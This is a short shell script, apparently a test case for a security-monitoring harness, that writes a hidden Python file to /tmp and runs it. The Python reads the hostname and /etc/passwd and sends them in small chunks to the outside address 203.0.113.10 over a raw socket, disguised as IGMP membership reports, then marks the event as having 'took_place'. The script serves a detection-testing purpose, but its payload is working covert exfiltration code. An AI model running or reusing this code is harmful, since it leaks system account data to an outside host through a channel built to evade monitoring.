#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.g.py <<'END'
import os, socket, struct, time
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 2); what = (os.uname().nodename + " " + open("/etc/passwd").read()).encode(); n = 0
for i in range(0, len(what), 48):
    s.sendto(struct.pack("!BBH4s", 0x16, 0, 0, b"\xe0\0\0\x16") + what[i:i + 48], ("203.0.113.10", 0)); n += 1; time.sleep(0.02)
assert n > 10
END
python3 /tmp/.g.py
took_place
